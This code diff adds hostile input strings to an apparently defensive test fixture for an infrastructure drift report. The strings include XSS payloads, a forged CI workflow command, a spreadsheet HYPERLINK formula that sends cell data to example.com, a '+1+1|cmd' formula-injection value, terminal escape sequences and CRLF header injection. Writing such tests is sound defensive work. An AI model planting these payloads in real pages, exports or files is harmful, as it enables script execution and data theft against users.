@@ -7,6 +7,10 @@ const escapes = '\u001B[2J\u001B]0;owned\u0007\u001B]8;;https://example.com\u001
 const reversed = 'user\u202Enimda\u2066'
 const wide = '日本語のキュー👩‍👩‍👧‍👦é🇩🇪'
 
+/** For pages, comments, annotations and XML. */
+const markup =
+  '<script>alert(1)</script><img src=x onerror=alert(1)> ]]> &lt; @octocat #1 ![x](javascript:alert(1)) | `x` \n::error::forged'
+
 const queue = declared(`aws_sqs_queue.jobs["${escapes}"]`, `jobs\r\nForged: clean`)
 const topic = declared(
   `module.a_module_with_a_name_that_is_long["production"].module.nested_deeply_within["eu-west-1"].module.and_once_more[0].aws_sns_topic.notifications_for_everyone["the-key"]`,
@@ -66,6 +70,20 @@ export const hostileNames = report({
       path: 'UserData',
       before: userData.join('\n'),
       after: userData.with(7, `echo step 7 ${escapes}`).with(40, 'x'.repeat(500)).join('\n'),
+    }),
+    finding('low', declared(`aws_s3_bucket.b["${markup}"]`, markup), {
+      code: 'drifted',
+      path: `Tags.${markup}`,
+      before: '=HYPERLINK("https://example.com/?x="&A1,"click")',
+      after: markup,
+    }),
+    finding('low', declared('aws_s3_bucket.c', '+1+1|cmd'), {
+      code: 'tag-value-invalid',
+      key: '@SUM(1)',
+      value: '-2+3',
+      pattern: '^[a-z]+$',
+      on: 'live',
+      message: markup,
     }),
     finding('low', topic, {code: 'drifted-undeclared', path: 'Signature', before: undefined, after: policy(26, 0)}),
     finding(
